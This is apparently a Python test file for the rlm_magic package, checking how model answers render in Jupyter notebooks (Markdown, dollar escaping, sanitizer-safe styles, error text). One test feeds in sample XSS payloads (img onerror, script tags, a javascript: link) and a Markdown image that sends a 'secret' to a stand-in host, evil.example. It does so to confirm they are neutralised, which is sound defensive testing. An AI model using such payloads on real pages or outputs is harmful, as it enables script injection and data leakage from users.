"""How answers, errors and figures read in a notebook: Markdown rendered in the HTML view
with none of the model's HTML, ``$`` kept as money (not MathJax's math), a look that
survives JupyterLab's sanitizer, and empty sections left out."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from rlm_magic import RLMResult
from rlm_magic.rlm.result import CodeRun, Iteration

ANSWER = (
    "## Top incidents\n\n"
    "**checkout** timed out; the fix cost $1,200 and saved $5,000.\n\n"
    "| service | timeouts |\n|---|---|\n| checkout | 12 |\n\n"
    "Run `grep '$HOME' <log>` to see.\n"
)


class _Tree(HTMLParser):
    """Tags, their attributes, and the text of each, as a browser would read them."""

    def __init__(self, page: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.open: list[str] = []
        self.text_runs: list[str] = []  # each run of text between two tags
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text_runs.append(data)


def _answered(answer: str = ANSWER) -> RLMResult:
    return RLMResult(query="q", final_answer=answer, success=True, stop_reason="final")


def test_the_html_view_renders_the_answers_markdown():
    page = _answered()._repr_html_()
    assert "<h2>Top incidents</h2>" in page
    assert "<strong>checkout</strong>" in page
    assert "<th>service</th>" in page and "<td>12</td>" in page
    assert "## Top" not in page and "**checkout**" not in page and "|---|" not in page


def test_no_dollar_pair_in_one_run_of_html_text_so_mathjax_finds_no_math():
    # MathJax reads math between two `$` in one run of text; an element ends a run.
    tree = _Tree(_answered()._repr_html_())
    assert all(run.count("$") <= 1 for run in tree.text_runs), tree.text_runs
    assert "the fix cost $1,200 and saved $5,000" in re.sub(
        r"<[^>]+>", "", _answered()._repr_html_()
    )
    # And the whole result is marked for MathJax to skip.
    outer = next(attrs for tag, attrs in tree.tags if tag == "div")
    assert {"tex2jax_ignore", "mathjax_ignore"} <= set(outer["class"].split())


def test_a_dollar_in_code_is_left_as_written():
    page = _answered()._repr_html_()
    assert "<code>grep '$HOME' &lt;log&gt;</code>" in page


def test_the_markdown_view_escapes_dollars_outside_code_only():
    markdown = _answered()._repr_markdown_()
    assert "the fix cost \\$1,200 and saved \\$5,000." in markdown
    assert "`grep '$HOME' <log>`" not in markdown  # (this span holds `<`: made HTML)
    assert "<code>grep '$HOME' &lt;log&gt;</code>" in markdown
    assert "`$x`" in _answered("costs `$x`")._repr_markdown_()


def test_the_models_html_images_and_script_links_stay_text():
    answer = (
        "<img src=x onerror=alert(1)><script>alert(2)</script>\n\n"
        "![secret](https://evil.example/?q=secret) [click](javascript:alert(3))\n"
    )
    tree = _Tree(_answered(answer)._repr_html_())
    tags = {tag for tag, _ in tree.tags}
    assert not tags & {"img", "script"}
    hrefs = [attrs.get("href") for tag, attrs in tree.tags if tag == "a"]
    # No image is fetched: its address becomes a link, for a click; no script link.
    assert hrefs == ["https://evil.example/?q=secret"]
    assert "<script>" in "".join(tree.text_runs)


def test_the_look_is_in_inline_styles_a_sanitizer_keeps():
    # JupyterLab drops an untrusted output's <style> and keeps style attributes whose
    # values its rules accept: no var(), alpha with a leading zero.
    failed = RLMResult(
        query="q",
        final_answer="last reply",
        stop_reason="max_iterations",
        error="no FINAL answer",
        iterations=1,
        trajectory=[Iteration(1, "r", [CodeRun("x = 1", "")])],
    )
    for result in (_answered(), failed):
        page = result._repr_html_()
        styles = re.findall(r"style='([^']*)'", page)
        assert styles and all("var(" not in style for style in styles)
        assert not re.search(r"rgba\([^)]*,\s*\.\d", page)
    answer_box = re.search(r"class='rlm-answer' style='([^']*)'", failed._repr_html_())[1]
    assert "border-left:4px solid #c62828" in answer_box  # red: not an answer


def test_a_failed_run_with_nothing_done_draws_no_empty_sections():
    result = RLMResult(query="q", stop_reason="error", error="LLMQueryError: it failed")
    page = result._repr_html_()
    assert "Trajectory" not in page and "no answer" not in page and "Usage" not in page
    assert "it failed" in page
    shown = result.without_error()
    assert "it failed" not in shown._repr_html_() and "it failed" not in shown._repr_markdown_()
    assert repr(shown) == "RLMResult(error, iterations=0, sub-calls=0)"


def test_a_failed_runs_error_reads_as_one_sentence_without_internal_class_names():
    result = RLMResult(
        query="q",
        stop_reason="error",
        error="LLMQueryError: LLM call to 'openai/m' failed: BadRequestError: bad model",
    )
    assert str(result.as_exception("_rlm")) == (
        "RLM run failed: LLM call to 'openai/m' failed: BadRequestError: bad model; "
        "the partial result is in _rlm"
    )
    budget = RLMResult(
        query="q", stop_reason="budget", error="spent $0.0048 of max_cost_usd=$0.0005"
    )
    assert str(budget.as_exception()) == (
        "RLM run stopped by its cost budget: spent $0.0048 of max_cost_usd=$0.0005"
    )


def test_an_answer_too_long_to_render_quickly_is_shown_as_text():
    from rlm_magic.rlm.render import MARKDOWN_AT_MOST

    long = "**a** $1 and $2 <b>x</b>\n" * (MARKDOWN_AT_MOST // 20)
    page = _answered(long)._repr_html_()
    assert "<strong>" not in page and "shown as text" in page
    assert "&lt;b&gt;x&lt;/b&gt;" in page
    assert all(run.count("$") <= 1 for run in _Tree(page).text_runs)
